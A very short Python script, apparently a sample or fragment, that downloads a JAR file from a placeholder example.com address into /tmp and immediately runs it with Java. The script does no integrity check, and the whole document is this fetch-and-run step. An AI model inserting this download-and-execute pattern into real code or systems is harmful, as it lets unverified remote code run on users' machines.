import subprocess
import urllib.request

urllib.request.urlretrieve("https://example.com/x.jar", "/tmp/x.jar")
subprocess.Popen(["java", "-jar", "/tmp/x.jar"])
